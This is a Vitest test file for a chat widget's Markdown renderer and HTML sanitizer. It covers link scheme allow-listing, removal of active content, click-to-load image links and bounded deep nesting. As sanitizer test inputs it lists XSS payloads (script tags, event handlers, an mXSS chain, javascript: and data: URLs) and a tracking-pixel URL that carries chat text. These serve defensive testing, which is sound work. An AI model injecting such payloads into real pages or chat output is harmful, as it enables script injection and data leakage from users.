// @vitest-environment jsdom
// Sanitizer tests run under jsdom here and again in Chromium (e2e/widget.e2e.test.ts), never happy-dom.
import { describe, expect, it } from 'vitest';
import { isAllowedHref, renderMarkdown } from '../src/markdown';

function render(md: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = renderMarkdown(md);
  return div;
}

describe('renderMarkdown', () => {
  it('renders headings, lists, blockquotes and emphasis', () => {
    const el = render('# Title\n\n- one\n- two\n\n> quoted\n\n**bold**');
    expect(el.querySelector('h1')?.textContent).toBe('Title');
    expect(el.querySelectorAll('li')).toHaveLength(2);
    expect(el.querySelector('blockquote')?.textContent).toContain('quoted');
    expect(el.querySelector('strong')?.textContent).toBe('bold');
  });

  it('gives code blocks a language header and escapes their content', () => {
    const el = render('```js\nconst a = "<b>";\n```');
    expect(el.querySelector('.docent-code-lang')?.textContent).toBe('js');
    expect(el.querySelector('pre code')?.textContent).toBe('const a = "<b>";');
    expect(el.querySelector('pre b')).toBeNull();
  });

  it('gives a code block without a language no header', () => {
    const el = render('```\nlumen serve --port 8080\n```');
    expect(el.querySelector('.docent-code-lang')).toBeNull();
    expect(el.querySelector('pre code')?.textContent).toBe('lumen serve --port 8080');
  });

  it('keeps each word of inline code whole, and its text as written', () => {
    const code = render('Use `lumen serve --port 8080` or `a<b>`.').querySelectorAll('code');
    expect(code[0]!.textContent).toBe('lumen serve --port 8080');
    expect([...code[0]!.querySelectorAll('.docent-nowrap')].map((s) => s.textContent)).toEqual(['lumen', 'serve', '--port', '8080']);
    expect(code[1]!.textContent).toBe('a<b>');
    expect(code[1]!.querySelector('b')).toBeNull();
    // A word too long for a phone's bubble may wrap.
    const long = 'x'.repeat(31);
    expect(render(`\`${long}\``).querySelector('.docent-nowrap')).toBeNull();
  });

  it('opens links in a new tab without opener', () => {
    const a = render('[docs](https://example.com/a)').querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com/a');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it.each([
    ['http://x.test/'],
    ['https://x.test/'],
    ['mailto:a@b.test'],
    ['xmpp:user@host.test'],
    ['irc://irc.test/chan'],
    ['ircs://irc.test/chan'],
    ['/relative/path'],
    ['page.html'],
    ['#anchor'],
  ])('keeps the allowed link %s', (href) => {
    expect(render(`<a href="${href}">x</a>`).querySelector('a')!.getAttribute('href')).toBe(href);
  });

  it.each([
    ['javascript:alert(1)'],
    ['JaVaScRiPt:alert(1)'],
    ['java\tscript:alert(1)'],
    [' javascript:alert(1)'],
    ['data:text/html,<script>alert(1)</script>'],
    ['vbscript:msgbox(1)'],
    ['ftp://x.test/'],
    ['tel:123'],
  ])('empties the disallowed link %s', (href) => {
    const a = render(`<a href="${href.replace(/"/g, '&quot;')}">x</a>`).querySelector('a');
    expect(a?.getAttribute('href') ?? '').toBe('');
    const md = render(`[x](${href.replace(/ /g, '')})`).querySelector('a');
    expect(md?.getAttribute('href') ?? '').toBe('');
  });

  it('isAllowedHref decides by scheme only', () => {
    expect(isAllowedHref('HTTPS://x')).toBe(true);
    expect(isAllowedHref('javascript&colon;alert(1)')).toBe(true); // no scheme: stays a harmless relative link
    expect(isAllowedHref('\u0000javascript:alert(1)')).toBe(false);
  });

  it.each([
    ['<script>window.__pwned = 1</script>hello'],
    ['<img src=x onerror="window.__pwned = 1">'],
    ['<svg><script>window.__pwned = 1</script></svg>'],
    ['<svg onload="window.__pwned = 1"></svg>'],
    ['<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">'],
    ['<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'],
    ['<a href="javascript:window.__pwned=1">click</a>'],
    ['<details open ontoggle="window.__pwned=1">'],
    ['<form action="javascript:1"><button formaction="javascript:1">x</button></form>'],
  ])('strips active content from %s', (payload) => {
    const html = renderMarkdown(payload);
    expect(html).not.toMatch(/<script|onerror|onload|ontoggle|javascript:|<iframe|srcdoc|<form|formaction/i);
  });

  it('passes harmless raw HTML through but drops styles', () => {
    const el = render('<kbd>Ctrl</kbd> <div style="position:fixed;inset:0">cover</div><style>*{display:none}</style>');
    expect(el.querySelector('kbd')?.textContent).toBe('Ctrl');
    expect(el.querySelector('[style]')).toBeNull();
    expect(el.querySelector('style')).toBeNull();
  });
});

describe('links inside svg', () => {
  it('are emptied and open in a new tab like any other link', () => {
    const a = render('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>').querySelector('svg a');
    if (a) {
      expect(a.getAttribute('href') ?? '').toBe('');
      expect(a.getAttribute('target')).toBe('_blank');
    }
  });
});

describe('images in answers', () => {
  // Anything that would make the browser fetch a URL by itself (an image can carry the chat in its URL).
  const fetchesByItself = (el: HTMLElement) =>
    el.querySelectorAll('img, picture, source, image, feImage, video, audio, iframe, [background], [poster], [srcset]').length;

  it('turns a Markdown image into a link that loads nothing until clicked', () => {
    const el = render('See ![the chart](https://tracker.test/c.png?q=my+secret+question) here.');
    expect(fetchesByItself(el)).toBe(0);
    const a = el.querySelector('a')!;
    expect(a.textContent).toBe('the chart');
    expect(a.getAttribute('href')).toBe('https://tracker.test/c.png?q=my+secret+question');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('turns raw HTML images into links too, keeping only a safe address and the alt text', () => {
    const el = render(
      '<p>A <img src="https://tracker.test/p.gif?c=abc" alt="pixel" width="1" onerror="window.__pwned=1"> and <img src="javascript:alert(1)"></p>',
    );
    expect(fetchesByItself(el)).toBe(0);
    const links = [...el.querySelectorAll('a')];
    expect(links.map((a) => a.textContent)).toEqual(['pixel', 'Image']);
    expect(links[0]!.getAttribute('href')).toBe('https://tracker.test/p.gif?c=abc');
    expect(links[0]!.getAttributeNames().sort()).toEqual(['href', 'rel', 'target']);
    expect(links[1]!.getAttribute('href') ?? '').toBe('');
  });

  it("names an image without alt text in the chat's language (English 'Image' otherwise)", () => {
    const html = renderMarkdown('![](https://site.test/a.png) <img src="https://site.test/b.png">', 'Bild');
    const el = document.createElement('div');
    el.innerHTML = html;
    expect([...el.querySelectorAll('a')].map((a) => a.textContent)).toEqual(['Bild', 'Bild']);
    expect(renderMarkdown('![](https://site.test/a.png)')).toContain('>Image</a>');
  });

  it('drops every other element or attribute that fetches by itself', () => {
    const el = render(
      '<picture><source srcset="https://t.test/a.webp"><source src="https://t.test/b.png"></picture>' +
        '<svg><image href="https://t.test/s.png"></image><filter><feImage href="https://t.test/f.png"></feImage></filter></svg>' +
        '<table background="https://t.test/bg.png"><tr><td background="https://t.test/td.png">cell</td></tr></table>',
    );
    expect(fetchesByItself(el)).toBe(0);
    expect(el.innerHTML).not.toContain('t.test');
    expect(el.querySelector('td')?.textContent).toBe('cell');
  });
});

describe('hostile nesting', () => {
  it('renders thousands of nested blockquotes (which overflowed the parser) as a bounded quote with its text', () => {
    const el = render(`${'> '.repeat(3000)}the quoted fact`);
    expect(el.textContent).toContain('the quoted fact');
    let depth = 0;
    for (let q = el.querySelector('blockquote'); q; q = q.querySelector(':scope > blockquote')) depth++;
    expect(depth).toBeGreaterThan(1);
    expect(depth).toBeLessThanOrEqual(16);
  });

  it('renders a list nested 1,000 levels deep (seconds of parsing before) quickly, keeping every item', () => {
    const md = Array.from({ length: 1000 }, (_, i) => `${'  '.repeat(i)}- item ${i}`).join('\n');
    const t0 = performance.now();
    const el = render(md);
    expect(performance.now() - t0).toBeLessThan(5000);
    expect(el.textContent).toContain('item 0');
    expect(el.textContent).toContain('item 999');
    expect(el.querySelectorAll('li').length).toBeGreaterThan(20);
  });

  it('renders raw HTML nested thousands of elements deep without breaking the chat', () => {
    const el = render(`${'<div><span>'.repeat(1000)}deep text${'</span></div>'.repeat(1000)}`);
    expect(el.textContent).toContain('deep text');
  });

  it('leaves indentation and quote markers inside fenced code alone', () => {
    const code = `${' '.repeat(80)}deep\n${'> '.repeat(30)}not a quote`;
    expect(render(`\`\`\`\n${code}\n\`\`\``).querySelector('pre code')?.textContent).toBe(code);
  });

  it('keeps ordinary nesting as it was', () => {
    const el = render('- a\n  - b\n    - c\n\n> > quoted twice');
    expect(el.querySelectorAll('ul ul ul li')).toHaveLength(1);
    expect(el.querySelector('blockquote blockquote')?.textContent?.trim()).toBe('quoted twice');
  });
});
